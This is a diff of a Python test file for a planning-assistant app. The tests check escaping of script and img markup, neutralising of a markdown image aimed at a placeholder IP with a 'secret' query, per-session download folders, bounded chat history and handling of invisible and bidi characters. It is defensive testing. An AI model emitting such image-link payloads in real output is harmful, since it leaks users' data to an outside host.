@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from pathlib import Path
+
 from docx import Document
 
 from assistant.planners import OfflinePlanner
@@ -75,6 +77,45 @@ def test_model_text_with_markup_is_shown_as_text():
     assert not any("<script" in part or "<img" in part for part in view)
     assert "&lt;script&gt;" in view.risks and "&lt;script&gt;" in view.text and "&lt;script&gt;" in view.kpis
     assert "&lt;script&gt;" in view.maturity
+
+
+IMAGE = "![x](http://198.51.100.7/leak.png?secret=1)"
+
+
+def test_model_images_in_plan_text_are_broken_everywhere_in_the_view():
+    session, *_ = _form()
+    team = session.bundle.team
+    kpis = [team.kpis[0].model_copy(update={"name": IMAGE}), *team.kpis[1:]]
+    team = team.model_copy(update={"summary": IMAGE, "kpis": kpis})
+    view = plan_view(session.bundle.model_copy(update={"team": team}))
+    assert not any("![" in part for part in view)
+    assert "!\\[x](http://198.51.100.7/leak.png?secret=1)" in view.text and "[x](http://198.51.100.7" in view.kpis
+
+
+def test_downloads_are_kept_per_browser_session_and_removed_when_it_ends():
+    from types import SimpleNamespace
+
+    session, *_ = _form()
+    first = handlers.downloads(session, SimpleNamespace(session_hash="first"))
+    second = handlers.downloads(session, SimpleNamespace(session_hash="second"))
+    folders = {Path(first[0]).parents[1], Path(second[0]).parents[1]}
+    assert len(folders) == 2 and all(oct(folder.parents[1].stat().st_mode)[-3:] == "700" for folder in folders)
+    handlers.forget_downloads(SimpleNamespace(session_hash="first"))
+    assert not Path(first[0]).exists() and Path(second[0]).exists()
+
+
+def test_a_new_server_removes_the_folders_of_servers_that_are_gone(monkeypatch):
+    import subprocess
+    import sys
+
+    from ui import downloads as folders
+
+    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
+    stale = folders.user_root() / gone.stdout.strip() / "some-session" / "plan.md"
+    stale.parent.mkdir(parents=True)
+    stale.write_text("old plan")
+    mine = folders.server_root()
+    assert folders.prepare() == mine and not stale.exists() and mine.exists()
 
 
 def test_too_long_challenge_is_refused_with_a_visible_message_and_the_plan_kept():
@@ -152,6 +193,26 @@ def test_chat_and_form_share_the_session():
 def test_too_long_chat_message_is_refused_visibly():
     turns = list(handlers.chat_turn(OfflinePlanner(), "x" * (MESSAGE_MAX_CHARS + 1), [], None))
     assert f"at most {MESSAGE_MAX_CHARS}" in turns[-1][0][-1]["content"]
+
+
+def test_a_huge_message_is_neither_kept_in_the_history_nor_sent_back_on_later_turns():
+    huge = "x" * 10_000_000
+    history, _, session = list(handlers.chat_turn(OfflinePlanner(), huge, [], None))[-1]
+    assert sum(len(item["content"]) for item in history) < 2 * MESSAGE_MAX_CHARS and session.turns == []
+
+
+def test_the_history_the_page_sends_back_is_bounded(monkeypatch):
+    monkeypatch.setenv("OMNITEAM_MAX_CHAT_MESSAGES", "10")
+    monkeypatch.setenv("OMNITEAM_MAX_CHAT_MESSAGE_CHARS", "500")
+    sent = [{"role": "user" if i % 2 else "assistant", "content": "y" * 100_000} for i in range(1000)]
+    history, _, _ = list(handlers.chat_turn(OfflinePlanner(), "hello", sent, None))[-1]
+    assert len(history) == 10 and all(len(item["content"]) <= 500 for item in history)
+
+
+def test_invisible_and_bidi_characters_do_not_hide_a_channel_in_the_chat():
+    session = Session()
+    list(session.chat("We sell through e\u200bcommerce and sklepy\u202e; 300 employees, fashion", OfflinePlanner()))
+    assert session.data["channels"] == ["ecommerce", "stores"]
 
 
 def test_llm_chat_streams_text_then_the_view_draws_the_finished_plan(llm_settings, fake_openai, monkeypatch):
